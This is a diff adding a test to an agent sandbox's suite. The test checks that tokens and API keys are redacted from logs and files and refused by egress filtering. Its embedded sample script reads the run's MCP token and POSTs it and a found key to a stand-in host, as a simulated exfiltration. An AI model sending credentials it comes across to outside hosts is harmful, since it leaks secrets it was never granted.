@@ -262,3 +262,51 @@ def test_agent_rate_limit_covers_its_whole_entry(env, upstream):
     assert r.returncode == 0, r.stderr
     out = env.result(events)[0]["output"]
     assert sorted(out.values()) == [200, 200, 429, 429, 429, 429], out
+
+
+def test_cordon_tokens_are_redacted_and_never_sent(env, upstream):
+    """The run's own MCP token (in its environment) and a cordon API key it
+    came across are redacted from everything the run records, in either
+    case and whatever they are glued to, and egress refuses to carry them,
+    though the run was granted no secrets at all."""
+    api_key = "cdn_live_" + "7e1f" * 16
+    code = (
+        'import os, json, sys, urllib.request, urllib.error\n'
+        'tok = os.environ["CORDON_MCP_TOKEN"]\n'
+        f'key = "{api_key}"\n'
+        'print("token=" + tok, flush=True)\n'
+        'print("KEY:" + key.upper(), file=sys.stderr, flush=True)\n'
+        'sys.stdout.write("x" + tok[:20]); sys.stdout.flush()\n'
+        'sys.stdout.write(tok[20:] + "\\n")\n'
+        'open(os.environ["CORDON_STEPS"], "w").write(json.dumps({"name": "k" + key}) + "\\n")\n'
+        'out = {}\n'
+        'for name, body in [("token", tok), ("key", "note=x" + key), ("plain", "hello")]:\n'
+        f'    req = urllib.request.Request("http://other.test:{upstream.port}/x", data=body.encode(), method="POST")\n'
+        '    try:\n'
+        '        with urllib.request.urlopen(req, timeout=10) as r: out[name] = r.status\n'
+        '    except urllib.error.HTTPError as e: out[name] = e.code\n'
+        'json.dump(out, open("/workspace/output.json", "w"))\n')
+    m = manifest(required_secrets=[], egress={"domains": ["other.test"]})
+    a = env.agent("tokens", m, code)
+    r, events = env.run(a)
+    assert r.returncode == 0, r.stderr
+    res, run_dir = env.result(events)
+    assert res["output"] == {"token": 403, "key": 403, "plain": 200}
+    blocked = [e for e in events if e["type"] == "egress.blocked"]
+    assert len(blocked) == 2
+    assert "cordon_mcp_token" in json.dumps(blocked) and "cordon_api_key" in json.dumps(blocked)
+    # A body is inspected as it streams: a refused request's head may have
+    # left, never the token.
+    bodies = [b for (_, _, _, b) in upstream.log]
+    assert bodies.count(b"hello") == 1
+    assert not any(b"cdn_" in b.lower() for b in bodies)
+    stdout = (run_dir / "stdout").read_text()
+    assert stdout.count("[REDACTED:cordon_mcp_token]") == 2, stdout
+    assert "[REDACTED:cordon_api_key]" in (run_dir / "stderr").read_text()
+    assert any(e["type"] == "step" and e["step"]["name"] == "k[REDACTED:cordon_api_key]"
+               for e in events)
+    for f in run_dir.rglob("*"):
+        if f.is_file():
+            data = f.read_bytes().lower()
+            assert api_key.encode() not in data, f
+            assert b"cdn_mcp_" not in data, f
